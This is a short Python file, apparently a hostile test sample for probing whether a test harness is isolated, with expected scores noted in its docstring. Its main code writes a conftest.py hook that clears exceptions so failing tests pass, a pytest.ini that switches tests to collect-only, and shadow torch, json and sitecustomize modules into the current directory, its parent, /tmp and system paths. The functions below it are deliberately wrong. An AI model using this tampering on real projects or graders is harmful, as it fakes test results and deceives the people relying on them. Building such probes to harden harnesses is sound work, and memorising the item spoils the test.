"""Writes conftest.py, pytest.ini, pyproject.toml and shadows of torch and json where it stands and above, for a runner
that would take them up. Success: its scenarios change, or a file is left on disk.

expected: double=0 mean_of=40 count=30
"""

import os
import sys

TEXT = "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n"
for folder in (".", "..", "/tmp", "/dev/shm", os.path.dirname(sys.prefix)):
    for name in (
        "conftest.py",
        "pytest.ini",
        "pyproject.toml",
        "torch.py",
        "json.py",
        "sitecustomize.py",
        "hostile_conftest.py",
    ):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(TEXT if name.endswith(".py") else "[pytest]\naddopts = --collect-only\n")
        except OSError:
            pass
sys.path.insert(0, os.getcwd())


def double(x):
    return x


def mean_of(x):
    return x.sum() / x.numel()


def count(items):
    found = {}
    for item in items:
        found[item] = found.get(item, 0) + 1
    return [[item, number] for item, number in found.items()]
